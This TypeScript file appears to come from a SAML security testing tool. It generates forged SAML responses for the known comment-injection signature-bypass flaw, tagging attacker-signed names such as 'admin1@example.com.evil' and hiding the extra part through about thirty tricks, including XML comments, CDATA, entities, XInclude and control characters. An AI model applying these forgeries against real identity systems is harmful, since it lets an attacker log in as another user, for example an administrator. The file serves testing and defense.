import type { Forged } from "./forged";
import type { Value } from "./values";

/**
 * A name that an identity provider signed for the attacker, and the part of it that is somebody else's:
 * programs that stop at a comment, or leave a section out, read that part alone, and the signature holds.
 *
 * @see https://www.kb.cert.org/vuls/id/475445
 */
export interface PartialName extends Value {
  /** The part that is somebody else's. */
  readonly kept: string;
  /** The rest, and whether it comes before that part or after it. */
  readonly rest: string;
  readonly isBefore?: true;
}

const ROLE = "arn:aws:iam::123456789012:role/AmazonConnectAgentAccessRole";
const PROVIDER = "arn:aws:iam::123456789012:saml-provider/AmazonConnectAgentAccess";

const NAMES: readonly Omit<PartialName, "forge">[] = [
  {
    what: "the end of a role session name",
    signed: { sessionNames: ["admin1@example.com.evil"] },
    user: "admin1@example.com.evil",
    step: "session-name",
    shown: '"admin1@example.com.evil"',
    kept: "admin1@example.com",
    rest: ".evil",
  },
  {
    what: "the beginning of a role session name",
    signed: { sessionNames: ["not-admin1@example.com"] },
    user: "not-admin1@example.com",
    step: "session-name",
    shown: '"not-admin1@example.com"',
    kept: "admin1@example.com",
    rest: "not-",
    isBefore: true,
  },
  {
    what: "the end of an audience",
    signed: { audiences: ["urn:amazon:webservices.evil"] },
    step: "audience",
    kept: "urn:amazon:webservices",
    rest: ".evil",
  },
  {
    what: "the end of a role",
    signed: { roles: [`${ROLE},${PROVIDER}.evil`] },
    step: "role",
    kept: `${ROLE},${PROVIDER}`,
    rest: ".evil",
  },
];

export const PARTIAL_NAMES: readonly PartialName[] = NAMES.map((name) => {
  const whole = name.isBefore ? name.rest + name.kept : name.kept + name.rest;
  return { ...name, forge: (xml) => xml.replaceAll(`>${whole}<`, `>${name.kept}<`) };
});

type Hide = (text: string) => string;

/** Ways to write the rest of a name that some program does not read. */
const WAYS: Readonly<Record<string, Hide>> = {
  "a comment": (text) => `<!--${text}-->`,
  "an empty comment before it": (text) => `<!---->${text}`,
  "two comments around it": (text) => `<!--a-->${text}<!--b-->`,
  "a comment of a tag before it": (text) => `<!--</saml2:AttributeValue>-->${text}`,
  "an instruction": (text) => `<?x ${text}?>`,
  "an instruction named after it": (text) => `<?x${text}?>`,
  "an empty instruction before it": (text) => `<?x?>${text}`,
  "an XML declaration before it": (text) => `<?xml version="1.0"?>${text}`,
  "a CDATA section": (text) => `<![CDATA[${text}]]>`,
  "an empty CDATA section before it": (text) => `<![CDATA[]]>${text}`,
  "references to its characters": (text) =>
    text.replace(/./gs, (one) => `&#x${one.charCodeAt(0).toString(16)};`),
  "references to its characters, in decimal": (text) =>
    text.replace(/./gs, (one) => `&#${String(one.charCodeAt(0))};`),
  "an entity": () => "&rest;",
  "an entity of HTML before it": (text) => `&nbsp;${text}`,
  "an element": (text) => `<x>${text}</x>`,
  "an empty element before it": (text) => `<x/>${text}`,
  "an element of XInclude": (text) =>
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="data:,${text}" parse="text"/>`,
  "a zero byte before it": (text) => `\0${text}`,
  "a reference to a zero byte before it": (text) => `&#0;${text}`,
  "a line before it": (text) => `\n${text}`,
  "a carriage return before it": (text) => `\r${text}`,
  "a reference to a carriage return before it": (text) => `&#13;${text}`,
  "a line separator before it": (text) => `\u2028${text}`,
  "a next-line character before it": (text) => `\u0085${text}`,
  "a space of no width before it": (text) => `\u200b${text}`,
  "a byte order mark before it": (text) => `\ufeff${text}`,
  "half a character before it": (text) => `\ud800${text}`,
  "what is no character before it": (text) => `\uffff${text}`,
  "spaces around it": (text) => ` ${text} `,
};

/** What an attacker makes of a response that has one of those names. */
export function* hiddenText(xml: string, value: PartialName, place: string): Generator<Forged> {
  const { kept, rest, isBefore } = value;
  const whole = isBefore ? rest + kept : kept + rest;
  for (const [how, hide] of Object.entries(WAYS)) {
    for (const [side, hidden] of Object.entries({
      rest: isBefore ? hide(rest) + kept : kept + hide(rest),
      name: isBefore ? rest + hide(kept) : hide(kept) + rest,
      whole: hide(whole),
    })) {
      const changed = () => xml.replaceAll(`>${whole}<`, () => `>${hidden}<`);
      yield { how: `${place} signed, ${how} with the ${side}`, value, make: changed };
      if (how !== "an entity") continue;
      const text = side === "rest" ? rest : side === "name" ? kept : whole;
      const declared = () =>
        changed().replace("?>", () => `?><!DOCTYPE r [<!ENTITY rest "${text}">]>`);
      yield { how: `${place} signed, a declared entity with the ${side}`, value, make: declared };
    }
  }
}
